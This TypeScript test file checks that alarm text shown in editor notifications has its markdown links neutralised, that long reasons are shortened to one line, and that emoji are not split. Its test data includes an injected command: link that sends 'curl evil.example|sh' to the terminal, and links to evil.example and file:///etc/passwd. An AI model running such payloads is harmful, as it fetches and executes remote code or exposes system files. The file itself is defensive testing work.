import * as assert from 'node:assert/strict';
import { MAX_QUOTED_LENGTH, notificationMessage, quoted } from '../../../src/core/text/notification';
import { links } from './vscodeSyntax';

describe('notification text from outside', () => {
  const reason = 'Threshold Crossed: 1 datapoint [97.3] was greater than the threshold (90.0). [Open runbook](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D)';

  it('a state reason carrying a command: link is shown without any link', () => {
    assert.deepEqual(links(reason), ['command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D'], 'the pattern finds the injected link');
    const shown = notificationMessage(`Alarm dev-rds-cpu-critical (us-east-1) is in ALARM: ${quoted(reason, 1000)}`);
    assert.deepEqual(links(shown), []);
    assert.match(shown, /\[Open runbook\] \(command:/, 'the text stays readable');
    assert.match(shown, /1 datapoint \[97\.3\] was greater/);
  });

  it('every link form is split: https, file, titles, spaces before the parenthesis', () => {
    for (const text of ['[a](https://evil.example)', '[a](file:///etc/passwd)', '[a](command:x "title")', '[x] (command:y)', '[a]\t(command:z)', '[[a]](command:w)']) {
      assert.deepEqual(links(notificationMessage(text)), [], text);
    }
  });

  it('quotes long text short and on one line; the whole text belongs in a document', () => {
    const long = `${'line one\n'.repeat(100)}end`;
    const q = quoted(long);
    assert.ok(q.length <= MAX_QUOTED_LENGTH);
    assert.ok(!q.includes('\n'));
    assert.ok(q.endsWith('…'));
    assert.equal(quoted('  short\treason  '), 'short reason');
  });

  it('never cuts a character in half', () => {
    const q = quoted('😀'.repeat(200), 11);
    assert.ok(!/[\uD800-\uDBFF](?![\uDC00-\uDFFF])/.test(q), 'no lone high surrogate');
  });
});
